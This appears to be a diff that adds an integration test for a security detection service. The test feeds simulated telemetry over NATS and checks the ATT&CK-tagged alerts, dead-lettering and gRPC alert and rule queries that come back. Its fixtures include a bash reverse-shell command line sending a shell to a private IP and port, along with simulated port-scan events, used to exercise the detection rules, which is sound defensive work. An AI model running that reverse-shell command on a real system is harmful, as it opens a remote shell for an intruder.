@@ -1,0 +1,278 @@
+// The intelligence service on a real nats-server and real gRPC: telemetry batches published as a
+// sentinel would become explained, ATT&CK-tagged alerts on ALERTS; a malformed batch is
+// dead-lettered and processing continues; the alert and rule RPCs answer from the stream.
+import { promisify } from 'node:util';
+import * as grpc from '@grpc/grpc-js';
+import {
+  connectBus,
+  DLQ_HEADERS,
+  provision,
+  publish,
+  publishBytes,
+  subjects,
+  type Bus,
+} from '@omega/bus';
+import { flowEvent } from '@omega/detect';
+import {
+  Alert,
+  DetectorKind,
+  EventBatch,
+  IntelligenceServiceClient,
+  NetworkActivityId,
+  RuleFormat,
+  Severity,
+  type Event,
+  type StreamAlertsResponse,
+} from '@omega/proto';
+import { createLogger } from '@omega/runtime';
+import { runService, type RunningService } from '@omega/service';
+import { withNats } from '@omega/testkit';
+import { AlertStore } from './alert-store';
+import {
+  buildIntelligence,
+  INTELLIGENCE_RESOURCES,
+  intelligenceServiceConfigSchema,
+  type IntelligenceServiceConfig,
+} from './intelligence-service';
+import { processLaunch } from './spec-events';
+
+const nats = withNats({ jetstream: true });
+const REVERSE_SHELL_RULE = 'sigma:0b6a6f0e-3f7c-4d4e-9a51-1c2d3e4f5a02';
+let running: RunningService<IntelligenceServiceConfig>;
+let bus: Bus;
+let store: AlertStore;
+let client: IntelligenceServiceClient;
+let sequence = 0n;
+
+beforeAll(async () => {
+  running = await runService({
+    name: 'intelligence',
+    configSchema: intelligenceServiceConfigSchema,
+    resources: INTELLIGENCE_RESOURCES,
+    installSignalHandlers: false,
+    env: {
+      OMEGA_GRPC_HOST: '127.0.0.1',
+      OMEGA_GRPC_PORT: '0',
+      OMEGA_HTTP_HOST: '127.0.0.1',
+      OMEGA_HTTP_PORT: '0',
+      OMEGA_NATS_SERVERS: nats.url,
+      OMEGA_LOG_LEVEL: 'warn',
+    },
+    build: buildIntelligence,
+  });
+  bus = await connectBus({
+    servers: nats.url,
+    name: 'sentinel-spec',
+    logger: createLogger({ service: 'sentinel', level: 'silent' }),
+  });
+  await provision(bus, { streams: ['TELEMETRY', 'ALERTS', 'DLQ'] });
+  store = new AlertStore(bus);
+  client = new IntelligenceServiceClient(
+    `127.0.0.1:${running.grpcPort}`,
+    grpc.credentials.createInsecure(),
+  );
+}, 30_000);
+
+nats.beforeStop(async () => {
+  client?.close();
+  await bus?.drain();
+  await running?.service.shutdown('test done');
+});
+
+/** Publishes a batch as a sentinel does: one EventBatch per subject, de-duplicated per sequence. */
+async function sentinelPublishes(kind: string, events: Event[], node = 'node-1'): Promise<EventBatch> {
+  sequence++;
+  const batch = EventBatch.fromPartial({
+    sender: { id: `spiffe://omega.local/sentinel/${node}`, keyId: '' },
+    sessionId: 'session-1',
+    sequence,
+    createdTimeNs: 1n,
+    events,
+  });
+  await publish(bus, subjects.telemetry(kind, node), EventBatch, batch, {
+    msgId: `${node}:session-1:${sequence}`,
+  });
+  return batch;
+}
+
+async function eventually<T>(probe: () => Promise<T | undefined>, what: string, timeoutMs = 10_000): Promise<T> {
+  const deadline = Date.now() + timeoutMs;
+  for (;;) {
+    const value = await probe();
+    if (value !== undefined) return value;
+    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
+    await new Promise((r) => setTimeout(r, 100));
+  }
+}
+
+async function alertsWhere(predicate: (a: Alert) => boolean): Promise<Alert[]> {
+  return (await store.list(undefined, 1000)).alerts.map((s) => s.alert).filter(predicate);
+}
+
+async function waitForAlert(predicate: (a: Alert) => boolean, what: string): Promise<Alert> {
+  return eventually(async () => (await alertsWhere(predicate))[0], what);
+}
+
+const POD_A = { 'omega.pod': 'cart-1' };
+const reverseShellIn = (pod: string, id: string, timeNs = 1_700_000_000_000_000_000n) =>
+  processLaunch(
+    { 'omega.pod': pod, Image: '/bin/bash', CommandLine: 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1', ParentImage: '/bin/bash' },
+    { id, timeNs },
+  );
+
+describe('telemetry to alerts', () => {
+  it('a reverse shell command line raises the reverse-shell rule alert, explained, on ALERTS', async () => {
+    const batch = await sentinelPublishes('process', [
+      processLaunch({ ...POD_A, Image: '/usr/bin/node', CommandLine: 'node server.js', ParentImage: '/sbin/tini' }),
+      reverseShellIn('cart-1', 'evt-reverse-shell'),
+    ]);
+    const alert = await waitForAlert((a) => a.ruleId === REVERSE_SHELL_RULE, 'the reverse-shell alert');
+    expect(alert).toMatchObject({
+      severity: Severity.SEVERITY_HIGH,
+      detectorKind: DetectorKind.DETECTOR_KIND_RULE,
+      attackTechniqueIds: ['T1059.004', 'T1095'],
+      node: 'node-1',
+      evidence: [
+        {
+          eventId: 'evt-reverse-shell',
+          eventIndex: 1,
+          batch: expect.objectContaining({ senderId: batch.sender!.id, sequence: batch.sequence }),
+        },
+      ],
+    });
+    expect(alert.explanation).toMatch(/matched event evt-reverse-shell in pod shop\/cart-1 on node node-1/);
+    expect(alert.explanation).toContain('/dev/tcp/');
+    expect(alert.reasons[0]).toMatchObject({ feature: expect.stringContaining('cmd_line') });
+    // Published on omega.alerts.<severity> with the alert id as the JetStream msg id.
+    const stored = await bus.jsm.streams.getMessage('ALERTS', {
+      seq: (await store.get(alert.id)).seq,
+    });
+    expect(stored?.subject).toBe('omega.alerts.high');
+    expect(stored?.header.get('Nats-Msg-Id')).toBe(alert.id);
+  });
+
+  it('a port scan sequence raises the port-scan finding alert with its sub-scores', async () => {
+    const events = ['10.1.0.1', '10.1.0.2', '10.1.0.3', '10.1.0.4'].map((host, i) =>
+      flowEvent({
+        id: `scan-${i}`,
+        timeNs: 1_700_000_000_000_000_000n + BigInt(i) * 1_000_000_000n,
+        src: { ip: '10.0.0.5', workload: 'shop/scanner-1@scanner' },
+        dst: { ip: host, port: 22 },
+        activity: NetworkActivityId.NETWORK_ACTIVITY_ID_REFUSE,
+      }),
+    );
+    await sentinelPublishes('network', events);
+    const alert = await waitForAlert((a) => a.ruleId === 'detector:port-scan', 'the port-scan alert');
+    expect(alert).toMatchObject({
+      detectorKind: DetectorKind.DETECTOR_KIND_STREAMING,
+      attackTechniqueIds: ['T1046'],
+      labels: expect.objectContaining({ entity: 'pod:shop/scanner-1' }),
+    });
+    expect(alert.evidence.map((e) => e.eventId)).toEqual(['scan-0', 'scan-1', 'scan-2', 'scan-3']);
+    expect(alert.reasons.length).toBeGreaterThan(0);
+    expect(alert.explanation.length).toBeGreaterThan(20);
+  });
+
+  it('a repeat of the same rule and pod within the window raises no second alert', async () => {
+    await sentinelPublishes('process', [reverseShellIn('cart-2', 'rs-a')]);
+    await waitForAlert((a) => a.ruleId === REVERSE_SHELL_RULE && a.evidence[0]?.eventId === 'rs-a', 'first');
+    await sentinelPublishes('process', [reverseShellIn('cart-2', 'rs-b', 1_700_000_000_500_000_000n)]);
+    await eventually(async () => {
+      const info = await bus.jsm.consumers.info('TELEMETRY', 'intelligence');
+      return info.num_ack_pending === 0 && info.num_pending === 0 ? true : undefined;
+    }, 'the batch to be acked');
+    const forPod = await alertsWhere(
+      (a) => a.ruleId === REVERSE_SHELL_RULE && a.entities.some((e) => e.value === 'shop/cart-2'),
+    );
+    expect(forPod).toHaveLength(1);
+  });
+
+  it('a malformed batch is dead-lettered and the next batch is still processed', async () => {
+    await publishBytes(bus, subjects.telemetry('process', 'node-1'), new Uint8Array([0x0a, 0xff, 0xff]));
+    await sentinelPublishes('process', [reverseShellIn('cart-3', 'after-garbage')]);
+    await waitForAlert((a) => a.evidence[0]?.eventId === 'after-garbage', 'the alert after the bad batch');
+    const dead = await eventually(
+      async () =>
+        (await bus.jsm.streams.getMessage('DLQ', {
+          last_by_subj: subjects.dlq('TELEMETRY', 'intelligence'),
+        }).catch(() => null)) ?? undefined,
+      'the dead letter',
+    );
+    expect(dead.header.get(DLQ_HEADERS.reason)).toBe('decode');
+    expect(dead.header.get(DLQ_HEADERS.expectedType)).toBe(EventBatch.$type);
+  });
+
+  it('counts events by kind, alerts by severity and unsigned batches', async () => {
+    const text = await running.service.metrics.metrics();
+    expect(text).toMatch(/^omega_intelligence_events_total\{kind="process"\} [1-9]/m);
+    expect(text).toMatch(/^omega_intelligence_events_total\{kind="network"\} [1-9]/m);
+    expect(text).toMatch(/^omega_intelligence_alerts_total\{severity="high"\} [1-9]/m);
+    expect(text).toMatch(/^omega_intelligence_unsigned_batches_total [1-9]/m);
+    expect(text).toMatch(/^omega_intelligence_alerts_suppressed_total [1-9]/m);
+  });
+});
+
+describe('IntelligenceService RPCs', () => {
+  it('StreamAlerts delivers a newly published alert, then ends when the client cancels', async () => {
+    const call = client.streamAlerts({ filter: { ruleIds: [REVERSE_SHELL_RULE], statuses: [], attackTechniqueIds: [], entityValue: 'shop/cart-9', incidentId: '', node: '', minSeverity: 0 }, cursor: '', startTimeNs: 0n });
+    const received = new Promise<StreamAlertsResponse>((resolve, reject) => {
+      call.on('data', resolve);
+      call.on('error', reject);
+    });
+    await new Promise((r) => setTimeout(r, 300)); // the ordered consumer starts at "new"
+    await sentinelPublishes('process', [reverseShellIn('cart-9', 'streamed')]);
+    const response = await received;
+    expect(response.alert?.evidence[0]?.eventId).toBe('streamed');
+    expect(Number(response.cursor)).toBeGreaterThan(0);
+    const ended = new Promise<grpc.ServiceError>((resolve) => call.on('error', resolve));
+    call.cancel();
+    expect((await ended).code).toBe(grpc.status.CANCELLED);
+  });
+
+  it('ListAlerts pages newest first and filters; GetAlert returns one by id', async () => {
+    const listAlerts = promisify(client.listAlerts.bind(client));
+    const first = await listAlerts({ pageSize: 1, pageToken: '' });
+    expect(first.alerts).toHaveLength(1);
+    expect(first.nextPageToken).not.toBe('');
+    const second = await listAlerts({ pageSize: 1, pageToken: first.nextPageToken });
+    expect(second.alerts[0]!.id).not.toBe(first.alerts[0]!.id);
+    const all = await listAlerts({ pageSize: 1000, pageToken: '' });
+    expect(all.alerts[0]!.id).toBe(first.alerts[0]!.id);
+    const scans = await listAlerts({
+      filter: { attackTechniqueIds: ['T1046'], ruleIds: [], statuses: [], entityValue: '', incidentId: '', node: '', minSeverity: 0 },
+      pageSize: 0,
+      pageToken: '',
+    });
+    expect(scans.alerts.map((a) => a.ruleId)).toEqual(['detector:port-scan']);
+    const high = await listAlerts({
+      filter: { minSeverity: Severity.SEVERITY_HIGH, attackTechniqueIds: [], ruleIds: [], statuses: [], entityValue: '', incidentId: '', node: '', },
+      pageSize: 0,
+      pageToken: '',
+    });
+    expect(high.alerts.length).toBeGreaterThan(0);
+    expect(high.alerts.every((a) => a.severity >= Severity.SEVERITY_HIGH)).toBe(true);
+
+    const getAlert = promisify(client.getAlert.bind(client));
+    expect((await getAlert({ alertId: scans.alerts[0]!.id })).alert).toEqual(scans.alerts[0]);
+    await expect(getAlert({ alertId: 'no-such-alert' })).rejects.toMatchObject({ code: grpc.status.NOT_FOUND });
+  });
+
+  it('ListRules returns the shipped pack and the detectors; ValidateRules checks a rule without loading it', async () => {
+    const listRules = promisify(client.listRules.bind(client));
+    const { rules } = await listRules({ kind: 0, attackTechniqueId: 'T1059', includeDisabled: false, includeSource: true, pageSize: 0, pageToken: '' });
+    expect(rules.map((r) => r.id)).toContain(REVERSE_SHELL_RULE);
+    expect(rules.find((r) => r.id === REVERSE_SHELL_RULE)).toMatchObject({
+      format: RuleFormat.RULE_FORMAT_SIGMA_YAML,
+      sourceName: 'execution/reverse-shell.yml',
+      source: expect.stringContaining('/dev/tcp/'),
+    });
+    expect(rules.find((r) => r.id === REVERSE_SHELL_RULE)!.matchCount).toBeGreaterThan(0n);
+
+    const validateRules = promisify(client.validateRules.bind(client));
+    const result = await validateRules({
+      sources: [{ name: 'bad.yml', format: RuleFormat.RULE_FORMAT_SIGMA_YAML, content: 'title: x\nlogsource: {category: process_creation}\ndetection: {condition: nope}\n' }],
+    });
+    expect(result.valid).toBe(false);
+    expect(result.diagnostics[0]).toMatchObject({ source: 'bad.yml' });
+  });
+});
